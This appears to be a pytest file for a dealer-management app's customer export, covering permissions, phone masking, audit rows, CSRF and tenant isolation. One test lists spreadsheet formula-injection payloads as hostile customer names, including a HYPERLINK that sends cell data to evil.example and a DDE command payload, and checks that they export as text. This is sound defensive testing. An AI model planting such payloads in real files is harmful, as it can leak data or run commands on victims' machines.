"""Export of the customer list: its own permission, the list's filters, what the user may see
(phones masked without customers.pii, ID numbers never), one audit row per export."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from dealer_saas.audit import AuditLog
from dealer_saas.customers import export
from dealer_saas.extensions import db

from .. import factories

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _sheet(response) -> list[list]:
    assert response.status_code == 200 and response.mimetype == XLSX
    assert "attachment; filename=customers-" in response.headers["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.data), read_only=True)
    return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]


def _exports(store) -> list[AuditLog]:
    return list(db.session.query(AuditLog).filter_by(action="export", store_id=store.id))


def test_manager_exports_the_filtered_list_of_the_store(client_as, two_tenants):
    store = two_tenants.a1
    client, manager = client_as("sales_manager", store=store)
    factories.CustomerFactory(
        store=store, name="导出甲", level="vip", mobile="13700000001", id_number="110101199003071234"
    )
    factories.CustomerFactory(store=store, name="导出乙", level="prospect")
    factories.CustomerFactory(store=two_tenants.a2, name="别店客户", level="vip")
    db.session.commit()
    assert 'data-testid="export-form"' in client.get("/customers/?level=vip").text
    rows = _sheet(client.post("/customers/export", data={"level": "vip"}))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["门店", "姓名", "类型", "手机号"]
    assert [r[1] for r in body] == ["导出甲"]  # the filter, and never another store's rows
    assert body[0][0] == "甲一店" and body[0][3] == "13700000001" and body[0][8] == "VIP"
    assert "110101199003071234" not in str(rows)
    logged = _exports(store)
    assert len(logged) == 1 and logged[0].after == {"filters": {"level": "vip"}, "rows": 1}
    assert logged[0].user_id == manager.id


def test_the_search_text_goes_along(client_as, store):
    client, _manager = client_as("sales_manager")
    factories.CustomerFactory(store=store, name="搜索导出", mobile="13600001234")
    factories.CustomerFactory(store=store, name="其他人", mobile="13600005678")
    db.session.commit()
    rows = _sheet(client.post("/customers/export", data={"q": "1234"}))
    assert [r[1] for r in rows[1:]] == ["搜索导出"]


def test_without_pii_phones_are_masked(client_as, store):
    client, _marketing = client_as("marketing")  # may export, may not see full numbers
    factories.CustomerFactory(store=store, name="遮掩", mobile="13512345678", other_phones="13912345678")
    db.session.commit()
    rows = _sheet(client.post("/customers/export", data={}))
    row = next(r for r in rows if r[1] == "遮掩")
    assert row[3] == "135****5678" and row[4] == "139****5678"
    assert "13512345678" not in str(rows)


def test_export_is_its_own_permission(client_as, store):
    client, _consultant = client_as("sales_consultant")
    factories.CustomerFactory(store=store, owner_id=_consultant.id)
    db.session.commit()
    assert 'data-testid="export-form"' not in client.get("/customers/").text
    assert client.post("/customers/export", data={}).status_code == 403
    assert _exports(store) == []


def test_too_many_rows_go_back_to_the_list_with_a_message(client_as, store, monkeypatch):
    client, _manager = client_as("sales_manager")
    factories.CustomerFactory(store=store)
    factories.CustomerFactory(store=store)
    db.session.commit()
    monkeypatch.setattr(export, "EXPORT_LIMIT", 1)
    response = client.post("/customers/export", data={"source": "walk_in"})
    assert response.status_code == 303 and response.headers["Location"].endswith("/customers/?source=walk_in")
    assert "请缩小筛选范围" in client.get(response.headers["Location"]).text
    assert _exports(store) == []


def test_export_needs_the_csrf_token(app, store):
    from ..conftest import login

    app.config["WTF_CSRF_ENABLED"] = True
    try:
        user = factories.user_with_role("sales_manager", store)
        db.session.commit()
        client = login(app.test_client(), user, store)
        assert client.post("/customers/export", data={}).status_code == 400
    finally:
        app.config["WTF_CSRF_ENABLED"] = False


def test_group_manager_exports_every_store_of_the_group_from_the_roll_up(client_as, two_tenants):
    client, manager = client_as("group_manager", store=two_tenants.a1, org_wide=True)
    with client.session_transaction() as session:
        session["store_id"] = "all"
    rows = _sheet(client.post("/customers/export", data={}))
    stores = sorted({r[0] for r in rows[1:]})
    assert stores == ["甲一店", "甲二店"]  # both stores of the group, never the other group's
    assert "乙一标记客户" not in str(rows)
    logged = db.session.query(AuditLog).filter_by(action="export", user_id=manager.id).one()
    assert logged.org_id == two_tenants.a1.org_id and logged.after["rows"] == len(rows) - 1


#: names a spreadsheet would run as formulas (or DDE) if written as they are
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&B2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def _cells(response) -> list:
    """Every cell of the export, opened fully (read-only mode hides the cell types)."""
    assert response.status_code == 200 and response.mimetype == XLSX
    workbook = load_workbook(io.BytesIO(response.data))
    return [cell for row in workbook.worksheets[0].iter_rows() for cell in row]


def test_names_that_look_like_formulas_are_exported_as_text(client_as, store):
    client, _manager = client_as("sales_manager")
    for n, name in enumerate(HOSTILE_NAMES[:4]):  # typed into the form
        posted = client.post("/customers/new", data={"name": name, "kind": "individual", "mobile": f"1370000010{n}"})
        assert posted.status_code == 303, posted.text
    for name in HOSTILE_NAMES[4:]:  # the form drops the tab and CR; a script might not
        factories.CustomerFactory(store=store, name=name)
    db.session.commit()
    cells = _cells(client.post("/customers/export", data={}))
    assert cells and all(cell.data_type != "f" for cell in cells)
    names = sorted(cell.value for cell in cells if cell.column == 2 and cell.row > 1)
    # (XML reads a carriage return back as a line feed)
    assert names == sorted(["'" + name.replace("\r", "\n") for name in HOSTILE_NAMES])
    assert '\'=HYPERLINK("http://evil.example/?"&B2,"click")' in names


def test_a_control_character_in_a_stored_name_does_not_break_the_export(client_as, store):
    """Rows saved before the forms cleaned text (or by a script) still export. PostgreSQL
    refuses NUL in text itself, so there the row carries other control characters."""
    client, _manager = client_as("sales_manager")
    nul = "" if db.engine.dialect.name == "postgresql" else "\x00"
    factories.CustomerFactory(store=store, name=f"{nul}控制\x01字符\x1b[31m", address="第一行\n第二行\x0b")
    factories.CustomerFactory(store=store, name="正常客户")
    db.session.commit()
    rows = _sheet(client.post("/customers/export", data={}))
    names = sorted(r[1] for r in rows[1:])
    assert names == ["控制字符[31m", "正常客户"]
    address = next(r[13] for r in rows[1:] if r[1] == "控制字符[31m")
    assert address == "第一行\n第二行"
